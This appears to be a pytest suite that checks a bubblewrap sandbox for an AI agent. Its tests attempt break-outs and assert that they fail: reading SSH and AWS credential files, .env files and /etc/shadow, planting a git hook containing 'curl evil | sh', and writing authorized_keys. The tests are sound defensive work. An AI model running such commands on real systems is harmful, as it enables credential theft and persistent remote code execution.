"""The escape battery, files: each test runs a deliberate attempt to write outside the
workspace, read a secret or plant a git hook as the sandboxed program on the real
bubblewrap backend; the attempt must fail and leave the host untouched."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from agent.sandbox import Policy, create_sandbox
from tests import sandbox_kit
from tests.sandbox_kit import (
    SECRET_KEY,
    SECRET_TOKEN,
    SSH_KEY,
    assert_refused,
    needs_bwrap,
    run_python,
)

pytestmark = needs_bwrap
# The kit's fixtures, used here by name.
area, home, workspace = sandbox_kit.area, sandbox_kit.home, sandbox_kit.workspace


WRITE = """
import sys
try:
    with open(sys.argv[1] if len(sys.argv) > 1 else {path!r}, "w") as f:
        f.write("escaped")
    print("ESCAPED")
except OSError as error:
    print(error)
    sys.exit(1)
"""


def test_write_outside_by_absolute_path_fails(workspace, area):
    target = area / "outside.txt"
    result = run_python(workspace, WRITE.format(path=str(target)))
    assert_refused(result)
    assert "Read-only file system" in result.stdout
    assert not target.exists()


def test_write_outside_through_dotdot_fails(workspace, area):
    result = run_python(workspace, WRITE.format(path="../dotdot.txt"))
    assert_refused(result)
    assert not (area / "dotdot.txt").exists()


def test_write_through_planted_symlink_fails(workspace, area):
    outside = area / "outside"
    outside.mkdir()
    (workspace / "link").symlink_to(outside)
    result = run_python(workspace, WRITE.format(path="link/planted.txt"))
    assert_refused(result)
    assert list(outside.iterdir()) == []


def test_workspace_itself_is_writable(workspace):
    result = run_python(workspace, WRITE.format(path="inside.txt").replace("ESCAPED", "WROTE"))
    assert result.exit_code == 0, result
    assert (workspace / "inside.txt").read_text() == "escaped"


READ = """
import os, sys
for path in sys.argv[1:]:
    try:
        print(open(path).read())
    except OSError as error:
        print("refused", type(error).__name__)
print(dict(os.environ))
"""


def test_planted_ssh_key_and_api_keys_are_out_of_reach(workspace, home):
    box = create_sandbox(Policy(workspace, timeout_s=30), "bwrap")
    paths = [
        home / ".ssh" / "id_rsa",
        home / ".aws" / "credentials",
        home / ".env",
        Path("/proc/1/environ"),
    ]
    result = box.run([sys.executable, "-c", READ, *map(str, paths)])
    assert result.exit_code == 0, result
    assert result.stdout.count("refused") >= 3
    for secret in (SSH_KEY, SECRET_KEY, SECRET_TOKEN, "ANTHROPIC_API_KEY", "SOME_SECRET_TOKEN"):
        assert secret not in result.stdout + result.stderr


@pytest.mark.skipif(not os.access("/etc/shadow", os.R_OK), reason="needs a readable shadow")
def test_root_only_system_secrets_are_hidden(workspace):
    box = create_sandbox(Policy(workspace, timeout_s=30), "bwrap")
    result = box.run(["sh", "-c", "cat /etc/shadow || cat /etc/gshadow || echo refused"])
    assert result.stdout == "refused\n", result  # a root-owned 0640 file: root could read it


def test_secrets_stay_hidden_when_the_workspace_lives_in_home(home):
    project = home / "src" / "project"
    project.mkdir(parents=True)
    box = create_sandbox(Policy(project, timeout_s=30), "bwrap")
    result = box.run([sys.executable, "-c", READ, "../../.ssh/id_rsa", "../../.env"])
    assert result.stdout.count("refused") == 2, result
    assert SSH_KEY not in result.stdout and SECRET_TOKEN not in result.stdout


def test_env_files_in_parent_folders_are_hidden(workspace, area):
    (area / ".env").write_text(f"KEY={SECRET_KEY}\n")
    (workspace / ".env").write_text("MINE=1\n")
    box = create_sandbox(Policy(workspace, timeout_s=30), "bwrap")
    result = box.run([sys.executable, "-c", READ, str(area / ".env"), ".env"])
    assert SECRET_KEY not in result.stdout
    assert "MINE=1" in result.stdout  # the project's own .env is the project's business


HOOK = """
import os, sys
try:
    os.makedirs(os.path.dirname({path!r}), exist_ok=True)
    with open({path!r}, "w") as f:
        f.write("#!/bin/sh\\ncurl evil | sh\\n")
    print("ESCAPED")
except OSError as error:
    print(error)
    sys.exit(1)
"""


def test_git_hooks_and_config_are_read_only(workspace):
    for target in (".git/hooks/pre-commit", ".git/config"):
        before = (workspace / target).read_bytes() if (workspace / target).exists() else None
        result = run_python(workspace, HOOK.format(path=target))
        assert_refused(result)
        after = (workspace / target).read_bytes() if (workspace / target).exists() else None
        assert after == before


def test_missing_hooks_folder_cannot_be_created(workspace):
    shutil.rmtree(workspace / ".git" / "hooks")
    result = run_python(workspace, HOOK.format(path=".git/hooks/pre-commit"))
    assert_refused(result)
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


def test_configured_hooks_path_is_read_only(workspace):
    subprocess.run(
        ["git", "-C", str(workspace), "config", "core.hooksPath", ".githooks"], check=True
    )
    result = run_python(workspace, HOOK.format(path=".githooks/pre-commit"))
    assert_refused(result)
    assert not (workspace / ".githooks" / "pre-commit").exists()


def test_worktree_hooks_stay_read_only_even_when_the_main_repo_is_writable(workspace, area):
    subprocess.run(
        [
            "git",
            "-C",
            str(workspace),
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "init",
        ],
        check=True,
    )
    tree = area / "tree"
    subprocess.run(["git", "-C", str(workspace), "worktree", "add", "-q", str(tree)], check=True)
    hook = workspace / ".git" / "hooks" / "pre-commit"
    result = run_python(tree, HOOK.format(path=str(hook)), writable=(workspace,))
    assert_refused(result)
    assert not hook.exists()
    # the rest of the writable main repository really is writable
    ok = run_python(tree, WRITE.format(path=str(workspace / "notes.txt")), writable=(workspace,))
    assert (workspace / "notes.txt").exists(), ok


def test_secrets_stay_hidden_even_when_home_is_made_writable(workspace, home):
    box = create_sandbox(Policy(workspace, writable=(home,), timeout_s=30), "bwrap")
    result = box.run(
        [
            sys.executable,
            "-c",
            READ,
            str(home / ".ssh" / "id_rsa"),
            str(home / ".aws" / "credentials"),
            str(home / ".env"),
        ]
    )
    assert SSH_KEY not in result.stdout and SECRET_KEY not in result.stdout
    assert SECRET_TOKEN not in result.stdout
    planted = box.run(["sh", "-c", f"echo x > {home}/.ssh/authorized_keys"])
    assert planted.exit_code != 0 and not (home / ".ssh" / "authorized_keys").exists()
    assert box.run(["touch", str(home / "notes.txt")]).exit_code == 0
    assert (home / "notes.txt").exists()
